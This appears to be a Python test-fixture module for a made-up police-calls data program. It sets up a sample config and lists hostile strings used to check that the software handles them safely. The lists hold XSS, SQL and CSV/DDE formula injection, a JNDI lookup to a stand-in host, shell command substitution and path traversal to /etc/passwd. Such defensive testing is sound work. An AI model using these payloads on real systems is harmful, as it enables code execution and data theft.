"""What the corpus is made of: a program with one kind of extract, and texts and names that do something (made up)."""

from __future__ import annotations

from pathlib import Path

PROGRAM = """
[program]
name = "Test Program (made up)"
organization = "Example region"
timezone = "America/Chicago"
fiscal_year_starts = 7
began = 2024-01-01
contact = "data@example.org"
[[agency]]
id = "oak"
name = "Oak Police Department"
team_units = ["CR1"]
"""
MAPPING = """
[[extract]]
table = "calls"
files = "{files}"
datetime = ["%m/%d/%Y %H:%M:%S"]
[extract.columns]
incident = "Incident"
received_at = "Received"
nature = "Nature"
disposition = "Disposition"
units = "Units"
[extract.split]
units = ","
"""
HEADINGS = ("Incident", "Received", "Nature", "Disposition", "Units")
HEAD = ",".join(HEADINGS)
TIME = "01/02/2024 10:00:00"
ROW = f"{{}},{TIME},{{}},arrest,CR1"

#: Texts that do something when they are shown without care. `HOSTILE` marks what must not reach a reader as it stands.
TEXTS = (
    "\x1b[31;7mHOSTILE\x1b[0m", "\x1b]0;HOSTILE\x07", "\x1b]8;;http://hostile.example\x07link\x1b]8;;\x07", "\x9b2JHOSTILE",
    "\x1b[2J\x1b[H", "back\x08\x08\x08space", "bell\x07", "vertical\x0btab\x0cfeed", "\x7fdelete",
    "\u202eHOSTILE\u202c", "\u2066isolate\u2069", "zero\u200bwidth\ufeff", "tag\U000e0041", "\ud7ff\ue000private\ue001",
    "[red]HOSTILE[/red]", "[link=http://hostile.example]x[/link]", "[/]", ":skull:",
    "<script>HOSTILE()</script>", "<img src=x onerror=HOSTILE()>", "<style>*{display:none}</style>", "&lt;HOSTILE&gt;", "]]>",
    "<svg onload=HOSTILE()>", '"><iframe src="file:///etc/passwd">', "</td></table>", "<!--", "@import url(file:///etc/passwd)",
    "{{ 7 * 7 }}", "{% include '/etc/passwd' %}", "{0.__class__}", "%s%n%x", "${jndi:ldap://hostile.example}",
    "$x^2$", "\\input{/etc/passwd}", "`id`", "$(id)", "; DROP TABLE calls; --", "' OR 1=1 --", '" OR ""="', "x' || getenv('HOME') || '",
    "=HYPERLINK(\"http://hostile.example\",\"HOSTILE\")", "=cmd|'/C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0",
    "+1+1", "\t=1+1", "\r=1+1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "＝1+1", "'=1+1", "DDE(\"cmd\";\"/C calc\")",
    "A" * 40_000, "é" * 300, "👩‍👩‍👧‍👦" * 50, "Z" + "\u0335" * 500 + "algo", "\u0000", "..\\..\\..", "../../etc/passwd", "NULL", "nan", "1e999",
)  # fmt: skip

#: Names that a shell, a pattern, a terminal or a page could take for something else.
NAMES = (
    "a b.csv", "..hidden..csv", "a..b.csv", "%2e%2e%2fx.csv", "%s%n.csv", "percent%.csv", "quote'.csv", 'double".csv', "back`tick.csv",
    "$(touch HOSTILE).csv", "; rm -rf x.csv", "line\nfeed.csv", "return\r.csv", "tab\t.csv", "esc\x1b[31;7mHOSTILE.csv", "\x1b]0;HOSTILE\x07.csv",
    "bidi\u202evsc.exe.csv", "[red]HOSTILE[/red].csv", "<script>HOSTILE()<.csv", "&amp;.csv", "star*.csv", "ques?tion.csv", "set[ab].csv", "brace{a,b}.csv",
    "-rf.csv", "--output=x.csv", "=1+1.csv", "+1.csv", "@x.csv", "~tilde.csv", "back\\slash.csv", "colon:x.csv", "pipe|x.csv",
    "é\u0301.csv", "e\u0301.csv", "ＦＵＬＬ.csv", "x" * 200 + ".csv", "CON.csv", "trailing .csv", "trailing..csv",
)  # fmt: skip


def program(folder: Path) -> Path:
    """The folder with its declarations and nothing in raw/ yet."""
    (folder / "agencies").mkdir(parents=True)
    (folder / "raw" / "oak").mkdir(parents=True)
    (folder / "program.toml").write_text(PROGRAM)
    (folder / "person.key").write_text("11" * 32)
    (folder / "agencies" / "oak.toml").write_text(MAPPING.format(files="oak/cad_*"))
    return folder
